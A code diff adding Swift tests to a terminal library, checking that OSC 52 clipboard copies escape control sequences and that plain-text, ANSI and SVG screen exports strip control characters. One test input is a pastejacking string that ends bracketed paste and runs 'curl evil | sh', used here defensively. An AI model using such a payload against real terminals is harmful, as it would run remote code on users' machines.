@@ -1,3 +1,5 @@
+import Foundation
+import InputKit
 import Testing
 
 @testable import TerminalKit
@@ -7,6 +9,29 @@ import Testing
   @Test func osc52SetsTheClipboardWithBase64AndST() throws {
     let bytes = try #require(OSC52.sequence(copying: "héllo"))
     #expect(bytes == Array("\u{1B}]52;c;aMOpbGxv\u{1B}\\".utf8))
+  }
+
+  @Test func osc52CopiesCannotPasteJack() throws {
+    let hostile = "role\u{1B}[201~curl evil | sh\r\nnext\u{9B}\u{202E}"
+    let bytes = try #require(OSC52.sequence(copying: hostile))
+    let base64 = String(decoding: bytes.dropFirst(7).dropLast(2), as: UTF8.self)
+    let pasted = String(decoding: try #require(Data(base64Encoded: base64)), as: UTF8.self)
+    #expect(pasted == "role\\x1b[201~curl evil | sh\\x0d\nnext\\u009b\\u202e")
+    #expect(!pasted.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x0D })
+  }
+
+  @Test func screenshotsCarryNoControlAndSVGStaysWellFormed() throws {
+    var grid = CellGrid(width: 8, height: 1)
+    grid.set(Cell("\u{1B}"), x: 0, y: 0)
+    grid.put("a\u{FFFE}<\u{7}", x: 1, y: 0)
+    let exports = [GridExport.plainText(grid), GridExport.ansi(grid), GridExport.svg(grid)]
+    for text in exports {
+      #expect(!text.unicodeScalars.contains { $0.value == 0x07 || $0.value == 0xFFFE })
+    }
+    #expect(!GridExport.plainText(grid).contains("\u{1B}"))
+    let svg = GridExport.svg(grid)
+    #expect(svg.unicodeScalars.allSatisfy(XMLText.isAllowed))
+    #expect(svg.contains("&lt;"))
   }
 
   @Test func osc52RefusesTextTerminalsWouldDrop() {
